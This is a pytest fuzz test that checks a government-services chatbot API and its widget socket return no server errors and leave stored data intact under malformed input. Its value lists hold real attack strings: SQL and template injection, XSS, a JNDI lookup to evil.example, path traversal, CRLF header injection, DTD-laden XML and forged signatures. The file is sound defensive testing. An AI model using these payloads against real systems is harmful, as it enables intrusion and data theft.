"""Bad input on every route and the widget socket: always a 4xx or a safe reply, never a 5xx.

Well over a thousand malformed requests, generated from families of bad values (oversized,
invalid UTF-8, lone surrogates, NUL, wrong types, huge numbers, XML with DTDs in several encodings,
forged and replayed signatures, injection strings, emoji floods, path traversal, deep nesting) over
the parameters and bodies of each route, are sent to the real service (with the real Rasa behind
it). After every batch the service must still answer ``/health``, and nothing already stored
(hand-offs, ratings, the catalogue) may have changed. The counts per route are printed
(``-s`` shows them) and written to ``tests/artifacts/bad-input-counts.json``.
"""

from __future__ import annotations

import asyncio
import json
import random
import time
import uuid
from collections import Counter
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import quote

import httpx
import pytest
import websockets
from sqlalchemy import select

from channels.wechat.crypto import MessageCrypto, sign
from daofu.records import ConversationRecords, HandoffRow, RatingRow
from daofu.secrets import ACTION_TOKEN_HEADER, action_token
from knowledge.db import create_engine_for
from knowledge.repository import Catalog
from tests.e2e.conftest import AGENT_TOKENS, ARTIFACTS_DIR, SERVICE_TEST_ENV

pytestmark = pytest.mark.e2e

AGENT = {"Authorization": f"Bearer {next(iter(AGENT_TOKENS.values()))}"}
WECHAT_TOKEN = SERVICE_TEST_ENV["DAOFU_WECHAT_TOKEN"]
WECHAT_APPID = SERVICE_TEST_ENV["DAOFU_WECHAT_APPID"]
WECHAT_AES_KEY = SERVICE_TEST_ENV["DAOFU_WECHAT_AES_KEY"]
GUIDE = "NB-330212-NBC-A-033"
MATTER = "NBC-A-033"
BATCH = 60

# Values that go where text is expected (query parameters, JSON fields, frames).
BAD_TEXTS: list[Any] = [
    "", " ", "\x00", "a\x00b", "\ud800", "x\udfffy", "😀" * 300, "长" * 900, "' OR 1=1 --",
    "<script>alert(1)</script>", "{{7*7}}", "${jndi:ldap://evil.example/a}", "../../etc/passwd",
    "%2e%2e%2fetc%2fpasswd", "\u202e\u200b\ufeff", "\r\nSet-Cookie: x=1", "javascript:alert(1)", "ⅻ①²",
    "/human_handoff", '/rate_service{"rating":"5"}', "/choose_option{\"guide_id\":\"../../x\"}",
]  # fmt: skip
# Values of other JSON types where text is expected.
BAD_TYPES: list[Any] = [None, 0, -1, 2**63, 10**30, 1e308, True, [], ["a"], {}, {"a": {"b": "c"}}]
BAD_NUMBERS = ["-1", "0", "2", "²", "①", "１", "1e3", "0x10", "9" * 40, "NaN", "inf", "3.5", " 3", "3 ", "", "abc"]
PATHS = ["..%2f..%2fdaofu%2fconfig.py", "%2e%2e/%2e%2e/etc/passwd", "a" * 3000, "%00", "%ff%fe", "😀", "."]


def nested(depth: int) -> str:
    return "[" * depth + "]" * depth


@dataclass
class Case:
    route: str
    method: str
    path: str
    params: Any = None
    headers: dict[str, str] = field(default_factory=dict)
    json_body: Any = None
    raw_body: bytes | None = None


@dataclass
class Outcome:
    cases: Counter = field(default_factory=Counter)
    client_errors: Counter = field(default_factory=Counter)
    server_errors: Counter = field(default_factory=Counter)
    failures: list[str] = field(default_factory=list)


def _raw_json(value: Any) -> bytes:
    """JSON as a client could send it: lone surrogates escaped (``\\ud800``), so they arrive as such."""
    return json.dumps(value, ensure_ascii=True).encode()


def chat_cases() -> Iterator[Case]:
    for value in BAD_TEXTS + BAD_TYPES:
        # Senders of the other channels must not be writable through the plain API either.
        for sender in ("api-bad", "wx-oBadInput", "web-badinputbadinput00"):
            yield Case("POST /api/chat", "POST", "/api/chat", raw_body=_raw_json({"sender": sender, "message": value}))
        yield Case("POST /api/chat", "POST", "/api/chat", raw_body=_raw_json({"sender": value, "message": "你好"}))
        yield Case("POST /api/chat", "POST", "/api/chat",
                   raw_body=_raw_json({"sender": "api-bad", "message": "你好", "metadata": value}))  # fmt: skip
    for content_type in ("text/plain", "application/xml", "multipart/form-data", "application/json; charset=gbk", ""):
        yield Case("POST /api/chat", "POST", "/api/chat", headers={"content-type": content_type},
                   raw_body=_raw_json({"sender": "api-bad", "message": "你好"}))  # fmt: skip
        yield Case("POST /api/chat", "POST", "/api/chat", headers={"content-type": content_type}, raw_body=b"\xff\x00")
    for body in (b"", b"\xff\xfe\x00", b"{", b"[]", b"null", b'"text"', nested(5000).encode(), b"{" * 5000,
                 b'{"sender": "api-x", "message": "a"' + b" " * 2_000_000 + b"}"):  # fmt: skip
        yield Case("POST /api/chat", "POST", "/api/chat", raw_body=body, headers={"content-type": "application/json"})


def search_cases(path: str, route: str, headers: dict[str, str] | None = None) -> Iterator[Case]:
    for value in BAD_TEXTS:
        if isinstance(value, str):
            yield Case(route, "GET", path, params={"q": value}, headers=headers or {})
            yield Case(route, "GET", path, params={"q": "身份证", "region": value}, headers=headers or {})
    for number in BAD_NUMBERS:
        for query in ("身份证", "\ud800", "😀" * 50, "' OR 1=1 --"):
            yield Case(route, "GET", path, params={"q": query, "top_k": number}, headers=headers or {})
    yield Case(route, "GET", path + "?q=%ff%fe&region=%00", headers=headers or {})
    yield Case(route, "GET", path + "?q=" + "%F0%9F" * 50, headers=headers or {})


def form_cases() -> Iterator[Case]:
    for value in PATHS:
        yield Case("GET /forms/<code>", "GET", f"/forms/{value}")
        yield Case("POST /forms/<code>", "POST", f"/forms/{value}", raw_body=b"name=x")
    for value in BAD_TEXTS:
        if isinstance(value, str):
            for key in ("guide", "region", "applicant_type", "matter", "name", value[:50] or "k"):
                yield Case("GET /forms/<code>", "GET", f"/forms/{MATTER}", params={key: value})
    yield Case("GET /forms/<code>", "GET", f"/forms/{MATTER}?" + "&".join(f"k{i}=v" for i in range(500)))
    yield Case("POST /forms/<code>", "POST", f"/forms/{MATTER}", raw_body=b"\xff" * 100_000)
    for value in PATHS:
        yield Case("GET /forms/static/<file>", "GET", f"/forms/static/{value}")


def widget_cases() -> Iterator[Case]:
    for value in BAD_TEXTS:
        if isinstance(value, str):
            yield Case("GET /widget/history", "GET", "/widget/history", params={"sender": value})
            origin = "".join(ch for ch in value[:200] if ch.isprintable()).strip() or "null"
            yield Case("GET /widget/history", "GET", "/widget/history", params={"sender": "web-" + "a" * 20},
                       headers={"Origin": origin})  # fmt: skip
    for value in PATHS:
        yield Case("GET /widget/<file>", "GET", f"/widget/{value}")
    yield Case("GET /", "GET", "/?" + "a=" + "b" * 5000)


def signed(timestamp: str | None = None, nonce: str | None = None) -> dict[str, str]:
    timestamp = timestamp or str(int(time.time()))
    nonce = nonce or uuid.uuid4().hex[:10]
    return {"timestamp": timestamp, "nonce": nonce, "signature": sign(WECHAT_TOKEN, timestamp, nonce)}


def wechat_cases() -> Iterator[Case]:
    route = "POST /wechat"
    xml_dtd = '<?xml version="1.0" encoding="{enc}"?><!DOCTYPE x [<!ENTITY a "{a}">]><xml><Content>&a;</Content></xml>'
    for encoding in ("utf-8", "utf-16", "utf-16-le", "utf-16-be", "utf-32", "latin-1", "gbk"):
        try:
            body = xml_dtd.format(enc=encoding, a="a" * 100).encode(encoding)
        except (UnicodeEncodeError, LookupError):
            continue
        yield Case(route, "POST", "/wechat", params={**signed(), "encrypt_type": "aes", "msg_signature": "x"},
                   raw_body=body)  # fmt: skip
        yield Case(route, "POST", "/wechat", params=signed(), raw_body=body)
        yield Case(route, "POST", "/wechat", params=signed(), raw_body=b"\xef\xbb\xbf" + body)
    bodies = [b"", b"\x00" * 100, b"<xml>", b"<xml>" * 10_000, nested(3000).encode(), b"<a>" * 5000,
              b"\xff\xfe<\x00x\x00", b"<xml><Encrypt>" + b"A" * 300_000 + b"</Encrypt></xml>",
              b"<xml><Encrypt>not base64!!</Encrypt></xml>", b"<xml><Encrypt>QUFBQQ==</Encrypt></xml>"]  # fmt: skip
    for body in bodies:
        yield Case(route, "POST", "/wechat", params={**signed(), "encrypt_type": "aes", "msg_signature": "0" * 40},
                   raw_body=body)  # fmt: skip
    for field_values in (
        {"signature": "签名"}, {"signature": "0" * 40}, {"signature": "a" * 10_000}, {"timestamp": "abc"},
        {"timestamp": str(int(time.time()) - 86_400)}, {"timestamp": "9" * 30}, {"nonce": "\x00"},
        {"nonce": "n" * 5000}, {"encrypt_type": "rot13"}, {"msg_signature": "签"},
    ):  # fmt: skip
        params = {**signed(), **field_values}
        yield Case(route, "POST", "/wechat", params=params, raw_body=b"<xml><Content>x</Content></xml>")
        yield Case("GET /wechat", "GET", "/wechat", params={**params, "echostr": "abc"})
    for echostr in ("", "\x00", "签名", "a" * 10_000, "<script>"):
        yield Case("GET /wechat", "GET", "/wechat", params={**signed(), "echostr": echostr})
    # A captured signed request replayed with another body, and a plaintext downgrade.
    params = signed()
    crypto = MessageCrypto(WECHAT_TOKEN, WECHAT_AES_KEY, WECHAT_APPID)
    for content in ("转人工", "/human_handoff", "身份证"):
        xml = (
            f"<xml><ToUserName>gh_bad</ToUserName><FromUserName>oBad</FromUserName><CreateTime>{int(time.time())}"
            f"</CreateTime><MsgType>text</MsgType><Content>{content}</Content><MsgId>{uuid.uuid4().int % 10**15}"
            "</MsgId></xml>"
        )
        yield Case(route, "POST", "/wechat", params=params, raw_body=xml.encode())  # plaintext: refused
        encrypt = crypto.encrypt(xml)
        forged = {**params, "encrypt_type": "aes", "msg_signature": "1" * 40}
        yield Case(
            route, "POST", "/wechat", params=forged, raw_body=f"<xml><Encrypt>{encrypt}</Encrypt></xml>".encode()
        )


def wechat_field_cases() -> Iterator[Case]:
    """Signed plaintext messages (plaintext is refused in safe mode) and signed encrypted ones with bad fields."""
    crypto = MessageCrypto(WECHAT_TOKEN, WECHAT_AES_KEY, WECHAT_APPID)
    variants = [
        {"Content": "长" * 5000}, {"Content": "a\x01b"}, {"Content": "]]>"}, {"MsgType": "location"},
        {"MsgType": "voice", "Recognition": ""}, {"MsgType": "voice", "Recognition": "😀" * 500},
        {"MsgType": "event", "Event": "CLICK", "EventKey": "../../x"}, {"MsgType": "event", "Event": "x" * 500},
        {"FromUserName": "o" * 500}, {"MsgId": "-1"}, {"MsgId": "9" * 300}, {"CreateTime": "abc"},
        {"ToUserName": ""}, {"MsgType": "中文"}, {"Content": "/human_handoff"},
        {"Content": '/rate_service{"rating":"5"}'},
    ]  # fmt: skip
    for variant in variants:
        fields = {"ToUserName": "gh_bad", "FromUserName": "oBadFields", "CreateTime": str(int(time.time())),
                  "MsgType": "text", "Content": "你好", "MsgId": str(uuid.uuid4().int % 10**15), **variant}  # fmt: skip
        xml = "<xml>" + "".join(f"<{k}><![CDATA[{v}]]></{k}>" for k, v in fields.items()) + "</xml>"
        params = signed()
        yield Case("POST /wechat", "POST", "/wechat", params=params, raw_body=xml.encode("utf-8", "surrogatepass"))
        encrypt = crypto.encrypt(xml)
        signature = sign(WECHAT_TOKEN, params["timestamp"], params["nonce"], encrypt)
        body = f"<xml><ToUserName>gh_bad</ToUserName><Encrypt>{encrypt}</Encrypt></xml>".encode()
        aes = {**params, "encrypt_type": "aes", "msg_signature": signature}
        yield Case("POST /wechat", "POST", "/wechat", params=aes, raw_body=body)


def action_cases(token: str) -> Iterator[Case]:
    for headers in ({}, {ACTION_TOKEN_HEADER: "wrong"}, {ACTION_TOKEN_HEADER: token, "X-Forwarded-For": "1.2.3.4"}):
        yield Case("POST /webhook", "POST", "/webhook", headers=headers,
                   json_body={"next_action": "action_store_rating", "tracker": {"sender_id": "x"}})  # fmt: skip
        yield Case("GET /actions", "GET", "/actions", headers=headers)
    good = {ACTION_TOKEN_HEADER: token}
    for body in (b"", b"{", b"[]", nested(5000).encode(), b'{"next_action": 5}', b'{"next_action": "x"}',
                 b'{"next_action": "action_greet", "tracker": []}',
                 b'{"next_action": "action_greet", "tracker": {"events": [1, "x", null]}}',
                 b'{"next_action": "action_greet", "tracker": {"slots": "x", "latest_message": 5}}',
                 b'{"next_action": "action_greet", "tracker": {}, "domain": "x"}'):  # fmt: skip
        yield Case("POST /webhook", "POST", "/webhook", headers={**good, "content-type": "application/json"},
                   raw_body=body)  # fmt: skip


def agent_cases() -> Iterator[Case]:
    token = next(iter(AGENT_TOKENS.values()))
    for header in ("", "Bearer", "Basic abc", "Bearer " + "a" * 6_000, "Bearer \x7f", "Bearer tokén-latin-1",
                   "Bearer 令牌", "bearer " + token.upper(), "Bearer  " + token, "Bearer " + token + "x"):  # fmt: skip
        yield Case("GET /api/agent/me", "GET", "/api/agent/me", headers={"Authorization": header})
    yield from search_cases("/api/agent/search", "GET /api/agent/search", AGENT)
    for value in PATHS + ["NB-" + "9" * 100]:
        yield Case("GET /api/agent/guides/<id>", "GET", f"/api/agent/guides/{value}", headers=AGENT)
        yield Case("GET /api/agent/guides/<id>/sms", "GET", f"/api/agent/guides/{value}/sms", headers=AGENT)
    for value in BAD_TEXTS + BAD_TYPES:
        yield Case("POST /api/agent/guides/<id>/send-link", "POST", f"/api/agent/guides/{GUIDE}/send-link",
                   headers=AGENT, raw_body=_raw_json({"phone": value}))  # fmt: skip
        yield Case("POST /api/agent/guides/<id>/send-link", "POST", f"/api/agent/guides/{GUIDE}/send-link",
                   headers=AGENT, raw_body=_raw_json({"phone": "13800000000", "q": value}))  # fmt: skip
        if isinstance(value, str):
            yield Case("GET /api/agent/guides/<id>/sms", "GET", f"/api/agent/guides/{GUIDE}/sms", params={"q": value},
                       headers=AGENT)  # fmt: skip
        yield Case("POST /api/agent/handoffs/<id>", "POST", "/api/agent/handoffs/1", headers=AGENT,
                   raw_body=_raw_json({"status": value}))  # fmt: skip
    for handoff_id in (str(2**63), str(2**64), "-1", "0", "１", "abc", "1.5", "9" * 50):
        yield Case("POST /api/agent/handoffs/<id>", "POST", f"/api/agent/handoffs/{handoff_id}", headers=AGENT,
                   json_body={"status": "taken"})  # fmt: skip
    for status in ("x", "", "\x00", "open'--"):
        yield Case("GET /api/agent/handoffs", "GET", "/api/agent/handoffs", params={"status": status}, headers=AGENT)
    for month in ("9999-12", "0000-00", "0001-01", "2025-13", "2025-1", "２０２５-０６", "\ud800", "2025-06' OR 1", ""):
        yield Case("GET /api/agent/report", "GET", "/api/agent/report", params={"month": month}, headers=AGENT)
    for value in PATHS:
        yield Case("GET /agent/<file>", "GET", f"/agent/static/{value}")


def all_cases(token: str) -> list[Case]:
    cases = [
        *chat_cases(), *search_cases("/api/search", "GET /api/search"), *form_cases(), *widget_cases(),
        *wechat_cases(), *wechat_field_cases(), *action_cases(token), *agent_cases(),
        Case("GET /health", "GET", "/health?" + "x" * 3000),
    ]  # fmt: skip
    random.Random(20261206).shuffle(cases)
    return cases


def stored_state(database_url: str) -> dict[str, Any]:
    """What must not change: every hand-off and rating row stored before, and the catalogue's checksum.

    Bad input may still be a person's real request (a message that asks for a person is one, however
    it is written), so rows may be added; none that was there may change or go.
    """
    engine = create_engine_for(database_url)
    try:
        with engine.connect() as connection:
            handoffs = [tuple(row) for row in connection.execute(select(HandoffRow.__table__))]
            ratings = [tuple(row) for row in connection.execute(select(RatingRow.__table__))]
        checksum = Catalog(engine).catalog_checksum()
    finally:
        engine.dispose()
    return {"handoffs": handoffs, "ratings": ratings, "catalog": checksum}


def raw_query(params: dict[str, Any]) -> str:
    """A query string as any client can send it: lone surrogates as the bytes a broken encoder writes."""
    return "&".join(
        f"{quote(str(key).encode('utf-8', 'surrogatepass'))}={quote(str(value).encode('utf-8', 'surrogatepass'))}"
        for key, value in params.items()
    )


def header_bytes(headers: dict[str, str]) -> dict[str, bytes]:
    """Header values as bytes (latin-1 where possible, as HTTP carries them; UTF-8 otherwise)."""
    out = {}
    for name, value in headers.items():
        try:
            out[name] = value.encode("latin-1")
        except UnicodeEncodeError:
            out[name] = value.encode("utf-8", "surrogatepass")
    return out


async def send(client: httpx.AsyncClient, case: Case) -> int:
    path = case.path
    if case.params:
        path += ("&" if "?" in path else "?") + raw_query(case.params)
    kwargs: dict[str, Any] = {"headers": header_bytes(case.headers)}
    if case.raw_body is not None:
        kwargs["content"] = case.raw_body
    elif case.json_body is not None:
        kwargs["content"] = _raw_json(case.json_body)
        kwargs["headers"]["content-type"] = b"application/json"
    response = await client.request(case.method, httpx.URL(path), **kwargs)
    return response.status_code


FRAMES: list[str | bytes] = [
    "", "{", "null", "[]", "5", '"x"', nested(20_000), '{"type": "message"}', '{"type": "message", "text": 5}',
    '{"type": "message", "text": "\\ud800"}', '{"type": "message", "text": "' + "长" * 9000 + '"}',
    '{"type": "message", "payload": "/human_handoff"}', '{"type": "message", "payload": ""}',
    '{"type": "nonsense"}', '{"type": "message", "text": "\\u0000"}', b"\xff\xfe\x00",
    '{"type": "message", "text": "' + "😀" * 1500 + '"}', '{"type": "ping", "x": ' + nested(3000) + "}",
]  # fmt: skip


async def socket_cases(base: str) -> tuple[int, int, list[str]]:
    """Bad senders and frames on the widget socket: errors as frames or closes, the service unharmed."""
    ws_base = base.replace("http://", "ws://")
    cases = handled = 0
    failures: list[str] = []
    for sender in ("", "web-short", "wx-" + "a" * 30, "web-" + "a" * 100, "web-%00" * 5, "web-😀😀😀😀😀😀😀😀😀"):
        cases += 1
        try:
            async with websockets.connect(f"{ws_base}/widget/ws?sender={sender}", open_timeout=10) as ws:
                frame = json.loads(await asyncio.wait_for(ws.recv(), 10))
                handled += frame.get("type") == "error"
        except websockets.exceptions.ConnectionClosed:
            handled += 1
        except websockets.exceptions.InvalidStatus as exc:
            handled += exc.response.status_code < 500
    sender = "web-" + uuid.uuid4().hex
    async with websockets.connect(f"{ws_base}/widget/ws?sender={sender}", open_timeout=10, max_size=None) as ws:
        for frame in FRAMES * 8:
            cases += 1
            try:
                await ws.send(frame)
                reply = json.loads(await asyncio.wait_for(ws.recv(), 30))
                while reply.get("type") == "typing":
                    reply = json.loads(await asyncio.wait_for(ws.recv(), 30))
                handled += reply.get("type") in ("error", "bot", "pong")
            except (websockets.exceptions.ConnectionClosed, TimeoutError) as exc:
                failures.append(f"frame {str(frame)[:40]!r}: {exc!r}")
                break
    return cases, handled, failures


def test_no_bad_input_gets_a_server_error_or_changes_what_is_stored(servers):
    database_url = servers.settings.database_url
    records = ConversationRecords(create_engine_for(database_url))
    records.open_handoff("web-stored-before-bad-input", "widget", "user_request", "社保卡丢了")
    records.add_rating("web-stored-before-bad-input", 4, "widget")
    before = stored_state(database_url)
    outcome = Outcome()
    cases = all_cases(action_token(servers.settings))

    async def scenario() -> None:
        limits = httpx.Limits(max_connections=8)
        async with httpx.AsyncClient(base_url=servers.service_url, timeout=60, limits=limits) as client:
            for start in range(0, len(cases), BATCH):
                batch = cases[start : start + BATCH]
                codes = await asyncio.gather(*(send(client, case) for case in batch), return_exceptions=True)
                for case, code in zip(batch, codes, strict=True):
                    outcome.cases[case.route] += 1
                    if isinstance(code, BaseException):
                        outcome.server_errors[case.route] += 1
                        outcome.failures.append(f"{case.route} {case.path[:60]} {case.params}: {code!r}")
                    elif code >= 500:
                        outcome.server_errors[case.route] += 1
                        outcome.failures.append(
                            f"{case.route} {case.path[:60]} {str(case.params)[:80]} "
                            f"{(case.raw_body or b'')[:80]!r} {str(case.json_body)[:60]}: {code}"
                        )
                    elif code >= 400:
                        outcome.client_errors[case.route] += 1
                health = await client.get("/health")
                assert health.status_code == 200, f"the service stopped answering after batch {start // BATCH}"
        ws_cases, ws_handled, ws_failures = await socket_cases(servers.service_url)
        outcome.cases["WS /widget/ws"] += ws_cases
        outcome.client_errors["WS /widget/ws"] += ws_handled
        outcome.failures += ws_failures
        async with httpx.AsyncClient(base_url=servers.service_url, timeout=60) as client:
            assert (await client.get("/health")).status_code == 200

    asyncio.run(scenario())
    counts = {
        route: {"cases": outcome.cases[route], "4xx": outcome.client_errors[route], "5xx": outcome.server_errors[route]}
        for route in sorted(outcome.cases)
    }
    ARTIFACTS_DIR.mkdir(parents=True, exist_ok=True)
    (ARTIFACTS_DIR / "bad-input-counts.json").write_text(json.dumps(counts, ensure_ascii=False, indent=1))
    print(json.dumps({"total": sum(outcome.cases.values()), **counts}, ensure_ascii=False, indent=1))
    assert outcome.failures == [], "\n".join(outcome.failures)
    assert sum(outcome.cases.values()) >= 1000
    after = stored_state(database_url)
    assert after["catalog"] == before["catalog"]
    for table in ("handoffs", "ratings"):
        assert after[table][: len(before[table])] == before[table], f"stored {table} changed"
